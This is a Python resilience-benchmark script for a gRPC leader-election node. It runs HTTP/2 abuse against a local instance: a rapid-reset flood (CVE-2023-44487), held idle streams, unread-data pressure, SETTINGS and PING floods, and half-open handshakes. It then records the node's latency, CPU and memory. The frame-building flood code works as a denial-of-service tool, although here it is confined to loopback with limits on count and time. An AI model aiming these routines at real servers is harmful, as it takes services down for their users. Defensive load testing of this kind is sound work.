#!/usr/bin/env python
"""Measure how one node stands up to HTTP/2 and connection abuse.

Usage::

    python tools/abuse.py [--quick] [--json]

For each attack a fresh node runs in its own process on loopback
(``python -m trio_election node --in-memory --unsafe-no-start-grace``, started
by ``bench.NodeProcess``; its ``ConnectionLimits`` are the defaults), and an
attacker process of this same script (``--attack KIND``) abuses it for a fixed
time:

* ``rapid-reset``: HEADERS + RST_STREAM pairs in batches, as fast as it can
  write them (CVE-2023-44487); it opens a new connection whenever the node
  closes one;
* ``idle-streams``: 20,000 KeepAlive calls opened (headers only) over 200
  connections, 100 each, then held;
* ``unread-data``: 100 connections, 10 Watch calls each, sending request
  bytes as far as HTTP/2 flow control lets them, which the node never reads;
* ``settings-flood`` and ``ping-flood``: SETTINGS or PING frames in batches,
  reconnecting when closed;
* ``handshakes``: 900 connections that never finish the HTTP/2 handshake
  (half send nothing, half a partial preface), held for longer than the
  handshake timeout.

Rapid reset and idle streams run three rounds on the same node (one with
``--quick``), to show that what one round takes is given back or reused.
Meanwhile a control client in this process (grpclib, one connection opened
before the attack) calls GetCurrentLeader in a loop, one call at a time with a
2 s deadline; the table gives its latency p50/p99/max and failed calls during
the attack, the node's CPU use during the attack (utime + stime over wall
time), and its VmRSS before, at the peak (sampled every 50 ms) and 5 s after
each round. The first row is the control client alone. The attacker runs at
nice 10, so that on a small machine the node and the control client get the
CPU first: what is measured is the node, not the machine.

Traffic goes to 127.0.0.1 only; every loop is bounded in count and time; the
node and the attacker are stopped at the end, also on Ctrl-C (and die with
this process: PR_SET_PDEATHSIG).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import select
import selectors
import signal
import socket
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import bench as b
import grpclib.client
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from grpclib.const import Status

from trio_election._generated.v1 import election_grpc, election_pb2 as pb

SERVICE = "trio_election.v1.LeaderElection"
CONTROL_TIMEOUT_S = 2.0
CONTROL_PAUSE_S = 0.005  # between control calls: ~150 calls a second
SAMPLE_S = 0.05
AFTER_S = 5.0
MAX_CONTROL_CALLS = 100_000


@dataclass(frozen=True)
class Attack:
    kind: str
    seconds: float
    size: int  # streams, connections or frames per batch, by kind
    what: str
    rounds: int = 1


def attacks(quick: bool) -> list[Attack]:
    scale = 0.25 if quick else 1.0
    seconds = 1.5 if quick else 4.0
    rounds = 1 if quick else 3
    return [
        Attack("none", seconds, 0, "control client alone"),
        Attack("rapid-reset", seconds, 100, "HEADERS+RST_STREAM, 100 pairs a write", rounds),
        Attack(
            "idle-streams", seconds + 2, int(20_000 * scale), "KeepAlive calls held open", rounds
        ),
        Attack("unread-data", seconds + 2, int(100 * scale), "connections x 10 Watch, unread"),
        Attack("settings-flood", seconds, 500, "SETTINGS frames, 500 a write"),
        Attack("ping-flood", seconds, 500, "PING frames, 500 a write"),
        Attack("handshakes", 12.0, int(900 * scale), "connections without HTTP/2 handshake"),
    ]


# -- the attacker (a child process: ``--attack KIND``) ----------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONNECT_TIMEOUT_S = 2.0


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame (RFC 9113 section 4.1)."""
    return (
        len(payload).to_bytes(3, "big")
        + bytes([kind, flags])
        + stream_id.to_bytes(4, "big")
        + payload
    )


def call_headers(method: str, port: int) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/{SERVICE}/{method}"),
        (":authority", f"{b.HOST}:{port}"),
        ("content-type", "application/grpc+proto"),
        ("te", "trailers"),
    ]


class Flood:
    """Writes batches of frames on one connection after another until time is up.

    A closed connection (the node's answer to a flood) is replaced by a new one;
    what the node sends back is read and dropped between batches.
    """

    def __init__(self, port: int, deadline: float) -> None:
        self.port = port
        self.deadline = deadline
        self.connections = 0
        self.frames = 0

    def run(self, batch: Any) -> dict[str, Any]:
        """``batch(first)`` -> (bytes, frames, next first) for a connection's next write."""
        while time.monotonic() < self.deadline:
            with contextlib.suppress(OSError), self._connect() as sock:
                first = None
                while time.monotonic() < self.deadline and self._drain(sock):
                    data, count, first = batch(first)
                    sock.sendall(data)
                    self.frames += count
        return {"connections": self.connections, "frames": self.frames}

    def _connect(self) -> socket.socket:
        sock = socket.create_connection((b.HOST, self.port), timeout=CONNECT_TIMEOUT_S)
        sock.sendall(PREFACE + frame(4, 0, 0))
        self.connections += 1
        return sock

    @staticmethod
    def _drain(sock: socket.socket) -> bool:
        """Read what is there; False once the node has closed the connection."""
        for _ in range(64):
            if not select.select([sock], [], [], 0)[0]:
                return True
            if not sock.recv(1 << 16):
                return False
        return True


def attack_rapid_reset(port: int, seconds: float, pairs: int) -> dict[str, Any]:
    encoder = hpack.Encoder()
    headers = call_headers("GetCurrentLeader", port)
    first_block, block = encoder.encode(headers), encoder.encode(headers)  # literal, indexed
    rst_cancel = (8).to_bytes(4, "big")

    def batch(stream_id: int | None) -> tuple[bytes, int, int]:
        frames = []
        if stream_id is None:  # a new connection: its HPACK table is empty
            frames.append(frame(1, 0x4, 1, first_block) + frame(3, 0, 1, rst_cancel))
            stream_id = 3
        for sid in range(stream_id, stream_id + 2 * pairs, 2):
            frames.append(frame(1, 0x4, sid, block) + frame(3, 0, sid, rst_cancel))
        return b"".join(frames), 2 * len(frames), stream_id + 2 * pairs

    return Flood(port, time.monotonic() + seconds).run(batch)


def attack_control_flood(port: int, seconds: float, count: int, one: bytes) -> dict[str, Any]:
    data = one * count
    return Flood(port, time.monotonic() + seconds).run(lambda _: (data, count, 0))


def attack_idle_streams(port: int, seconds: float, streams: int) -> dict[str, Any]:
    conns = []
    for start in range(0, streams, 100):
        conn = RawClient(port)
        for _ in range(min(100, streams - start)):
            conn.h2.send_headers(conn.h2.get_next_available_stream_id(), conn.headers("KeepAlive"))
        conn.flush()
        conns.append(conn)
    RawClient.pump(conns, time.monotonic() + seconds)
    refused = sum(c.refused for c in conns)
    return {"streams": streams, "refused": refused, "connections": len(conns)}


def attack_unread_data(port: int, seconds: float, connections: int) -> dict[str, Any]:
    request = pb.WatchRequest(election="e").SerializeToString()
    message = b"\x00" + len(request).to_bytes(4, "big") + request
    conns = []
    for _ in range(connections):
        conn = RawClient(port)
        conn.pump([conn], time.monotonic() + 0.05)  # the node's SETTINGS and WINDOW_UPDATE
        for _ in range(10):
            stream_id = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(stream_id, conn.headers("Watch"))
            conn.h2.send_data(stream_id, message)
            conn.junk_streams.append(stream_id)
        conns.append(conn)
    RawClient.pump(conns, time.monotonic() + seconds)
    sent = sum(c.junk_sent for c in conns)
    return {"connections": connections, "unread_bytes_sent": sent}


def attack_handshakes(port: int, seconds: float, count: int) -> dict[str, Any]:
    """Connections that never finish the handshake, held ``seconds`` after the last
    is made; how long the node took to close each one, from its own connect."""
    opened_at = {}
    for i in range(count):
        sock = socket.create_connection((b.HOST, port), timeout=CONNECT_TIMEOUT_S)
        opened_at[sock] = time.monotonic()
        if i % 2:
            sock.sendall(PREFACE[:8])
    connecting_s = time.monotonic() - min(opened_at.values())
    waiting = selectors.DefaultSelector()  # not select(): it stops at fd 1024
    for sock in opened_at:
        sock.setblocking(False)
        waiting.register(sock, selectors.EVENT_READ)
    closed_after = []
    deadline = time.monotonic() + seconds
    while waiting.get_map() and time.monotonic() < deadline:
        for key, _ in waiting.select(0.1):
            if not _read_all(key.fileobj):
                waiting.unregister(key.fileobj)
                closed_after.append(time.monotonic() - opened_at[key.fileobj])
    waiting.close()
    for sock in opened_at:
        sock.close()
    closed_after.sort()
    return {
        "connections": count,
        "connecting_s": round(connecting_s, 2),
        "closed_by_node": len(closed_after),
        "closed_after_s": round(b.percentile(closed_after, 0.5), 2) if closed_after else None,
    }


def _read_all(sock: Any) -> bool:
    """Read what is there (the node's SETTINGS, say); False once the node has closed."""
    try:
        for _ in range(64):
            if not sock.recv(1 << 16):
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    return True


class RawClient:
    """An h2 client connection for the attacks that need flow control or answers."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.sock = socket.create_connection((b.HOST, port), timeout=CONNECT_TIMEOUT_S)
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.h2.initiate_connection()
        self.refused = 0
        self.junk_streams: list[int] = []
        self.junk_sent = 0
        self.open = True
        self.flush()

    def headers(self, method: str) -> list[tuple[str, str]]:
        return call_headers(method, self.port)

    def flush(self) -> None:
        data = self.h2.data_to_send()
        if data and self.open:
            try:
                self.sock.sendall(data)
            except OSError:
                self.open = False

    def receive(self) -> None:
        try:
            data = self.sock.recv(1 << 16)
            events = self.h2.receive_data(data) if data else []
        except (OSError, h2.exceptions.ProtocolError):
            data, events = b"", []
        if not data:
            self.open = False
        for event in events:
            if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                if dict(event.headers).get("grpc-status") == "8":
                    self.refused += 1
            elif isinstance(event, h2.events.DataReceived):
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)

    def push_junk(self) -> None:
        """Request bytes on the Watch calls, as far as the node's windows allow."""
        for stream_id in self.junk_streams:
            while self.open and (size := min(self.h2.local_flow_control_window(stream_id), 16_384)):
                self.h2.send_data(stream_id, b"\0" * size)
                self.junk_sent += size

    @staticmethod
    def pump(conns: list[RawClient], deadline: float) -> None:
        """Read, answer and push junk on every connection until ``deadline``."""
        while time.monotonic() < deadline:
            live = [c for c in conns if c.open]
            if not live:
                return
            for conn in select.select([c.sock for c in live], [], [], 0.05)[0]:
                next(c for c in live if c.sock is conn).receive()
            for conn in live:
                conn.push_junk()
                conn.flush()


def attack_main(kind: str, port: int, seconds: float, size: int) -> None:
    settings_frame = frame(4, 0, 0, (1).to_bytes(2, "big") + (4096).to_bytes(4, "big"))
    runs = {
        "rapid-reset": lambda: attack_rapid_reset(port, seconds, size),
        "idle-streams": lambda: attack_idle_streams(port, seconds, size),
        "unread-data": lambda: attack_unread_data(port, seconds, size),
        "settings-flood": lambda: attack_control_flood(port, seconds, size, settings_frame),
        "ping-flood": lambda: attack_control_flood(port, seconds, size, frame(6, 0, 0, b"p" * 8)),
        "handshakes": lambda: attack_handshakes(port, seconds, size),
        "none": lambda: time.sleep(seconds) or {},
    }
    print(json.dumps(runs[kind]()), flush=True)


# -- the measurement (this process) ------------------------------------------------


class Control:
    """GetCurrentLeader in a loop over one connection: latency while under attack."""

    def __init__(self, port: int) -> None:
        self.channel = grpclib.client.Channel(b.HOST, port)
        self.stub = election_grpc.LeaderElectionStub(self.channel)
        self.request = pb.GetCurrentLeaderRequest(election="e")
        self.latencies: list[float] = []
        self.failures = 0
        self.refused = 0  # of the failures: RESOURCE_EXHAUSTED
        self.recording = False
        self.stopped = False

    async def call(self) -> None:
        started = time.monotonic()
        try:
            await self.stub.GetCurrentLeader(self.request, timeout=CONTROL_TIMEOUT_S)
        except Exception as exc:  # noqa: BLE001 - any failure is a failed control call
            if self.recording:
                self.failures += 1
                self.refused += getattr(exc, "status", None) is Status.RESOURCE_EXHAUSTED
            return
        if self.recording:
            self.latencies.append(time.monotonic() - started)

    async def run(self) -> None:
        for _ in range(MAX_CONTROL_CALLS):
            if self.stopped:
                return
            await self.call()
            await asyncio.sleep(CONTROL_PAUSE_S)


def _nice_and_die_with_parent() -> None:
    """The attacker's preexec_fn: it yields the CPU to the node and the control
    client (this machine may have two cores for all three), and dies with us."""
    os.nice(10)
    b._die_with_parent(signal.SIGKILL)()


class Attacker:
    """``tools/abuse.py --attack KIND`` in a child process."""

    def __init__(self, attack: Attack, port: int) -> None:
        self.proc = subprocess.Popen(
            [sys.executable, str(Path(__file__).resolve()), "--attack", attack.kind]
            + ["--port", str(port), "--seconds", str(attack.seconds), "--size", str(attack.size)],
            cwd=b.REPO,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            preexec_fn=_nice_and_die_with_parent,
        )

    def done(self) -> bool:
        return self.proc.poll() is not None

    def result(self) -> dict[str, Any]:
        out, _ = self.proc.communicate(timeout=10)
        if self.proc.returncode:
            return {"error": f"attacker exited with {self.proc.returncode}"}
        return json.loads(out or b"{}")

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait(5)


class Sampler:
    """The node's peak VmRSS, sampled every SAMPLE_S while we wait."""

    def __init__(self, node: b.NodeProcess) -> None:
        self.node = node
        self.peak = node.rss_bytes()

    async def wait(self, done: Any, limit_s: float) -> None:
        """Sample until ``done()`` or ``limit_s`` seconds have passed."""
        limit = time.monotonic() + limit_s
        while not done() and time.monotonic() < limit:
            self.peak = max(self.peak, self.node.rss_bytes())
            await asyncio.sleep(SAMPLE_S)


async def measure(attack: Attack) -> dict[str, Any]:
    """``attack.rounds`` rounds on one fresh node, each followed by AFTER_S of rest."""
    node = b.NodeProcess(None)
    attacker: Attacker | None = None
    control: Control | None = None
    try:
        node.wait_ready()
        control = Control(node.port)
        for _ in range(50):  # warm up: connection made, code paths hot
            await control.call()
        runner = asyncio.ensure_future(control.run())
        sampler = Sampler(node)
        rss_before = node.rss_bytes()
        cpu_s = wall_s = 0.0
        results, rss_after = [], []
        for _ in range(attack.rounds):
            cpu_before, started = node.cpu_seconds(), time.monotonic()
            control.recording = True
            attacker = Attacker(attack, node.port)
            await sampler.wait(attacker.done, attack.seconds + 30)
            cpu_s += node.cpu_seconds() - cpu_before
            wall_s += time.monotonic() - started
            control.recording = False
            results.append(attacker.result())
            await sampler.wait(lambda: False, AFTER_S)
            rss_after.append(node.rss_bytes())
        control.stopped = True
        await runner
        latencies = sorted(control.latencies)
        return {
            "attack": attack.kind,
            "what": attack.what,
            "rounds": attack.rounds,
            "attack_seconds": round(wall_s, 2),
            "control_calls": len(latencies) + control.failures,
            "control_failed": control.failures,
            "control_refused": control.refused,
            "p50_ms": b.percentile(latencies, 0.5) * 1e3,
            "p99_ms": b.percentile(latencies, 0.99) * 1e3,
            "max_ms": latencies[-1] * 1e3 if latencies else None,
            "node_cpu_pct": 100 * cpu_s / wall_s,
            "rss_before_mb": rss_before / 1e6,
            "rss_peak_mb": sampler.peak / 1e6,
            "rss_after_mb": [r / 1e6 for r in rss_after],
            "node_alive": node.proc.poll() is None,
            "attacker": results[-1],
        }
    finally:
        if control is not None:
            control.channel.close()
        if attacker is not None:
            attacker.stop()
        node.stop()


def _failed(row: dict[str, Any]) -> str:
    """Failed control calls of all; how many were refused (RESOURCE_EXHAUSTED)."""
    refused = f" ({row['control_refused']} RE)" if row["control_refused"] else ""
    return f"{row['control_failed']}/{row['control_calls']}{refused}"


def render(rows: list[dict[str, Any]]) -> str:
    headers = ["attack", "p50 ms", "p99 ms", "max ms", "failed calls", "CPU %"]
    headers += ["RSS MB before", "peak", "5 s after each round", "attacker (last round)"]
    lines = []
    for r in rows:
        lines.append(
            [r["attack"], b._num(r["p50_ms"], ".1f"), b._num(r["p99_ms"], ".1f")]
            + [b._num(r["max_ms"], ".0f"), _failed(r)]
            + [b._num(r["node_cpu_pct"], ".0f"), b._num(r["rss_before_mb"], ".0f")]
            + [b._num(r["rss_peak_mb"], ".0f")]
            + [" / ".join(b._num(after, ".0f") for after in r["rss_after_mb"])]
            + [" ".join(f"{k}={v}" for k, v in r["attacker"].items()) or r["what"]]
        )
    return (
        b._table(headers, lines) + "\n" + "\n".join(f"  {r['attack']}: {r['what']}" for r in rows)
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true", help="shorter, smaller attacks")
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    parser.add_argument("--only", help="comma-separated attacks to run (default: all)")
    parser.add_argument("--attack", help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--seconds", type=float, help=argparse.SUPPRESS)
    parser.add_argument("--size", type=int, help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.attack:
        attack_main(args.attack, args.port, args.seconds, args.size)
        return 0
    # Ctrl-C and SIGTERM end the run through measure()'s finally, which stops the
    # node and the attacker.
    signal.signal(signal.SIGINT, signal.default_int_handler)
    signal.signal(signal.SIGTERM, b._raise_interrupt)
    rows = []
    chosen = args.only.split(",") if args.only else None
    for attack in attacks(args.quick):
        if chosen is not None and attack.kind not in chosen:
            continue
        b.progress(f"{attack.kind}: {attack.what}, {attack.seconds:g} s")
        rows.append(asyncio.run(measure(attack)))
    print(json.dumps(rows) if args.json else render(rows))
    return 0


if __name__ == "__main__":
    sys.exit(main())
